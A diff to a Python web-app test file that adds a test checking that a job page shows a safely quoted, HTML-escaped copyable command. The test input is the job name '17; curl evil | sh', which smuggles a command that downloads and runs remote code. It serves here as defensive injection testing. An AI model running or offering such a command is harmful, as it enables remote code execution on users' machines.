@@ -35,3 +35,8 @@ def test_blocks_that_are_loaded_again_ask_for_the_same_name(client, show, folder
     again = set(map(unescape, re.findall(r'hx-get="([^"]*)"', text)))
     assert again == {f"/{folder}/{quote(name)}"}
     assert client.get(again.pop(), headers={"HX-Request": "true", "HX-Target": "memory_forecasts"}).status_code == 200
+
+
+def test_the_command_on_the_page_of_a_job_is_safe_to_copy(client, show):
+    show("17; curl evil | sh")
+    assert "<code>twin job &#39;17; curl evil | sh&#39;</code>" in client.get("/jobs/17;%20curl%20evil%20|%20sh").text
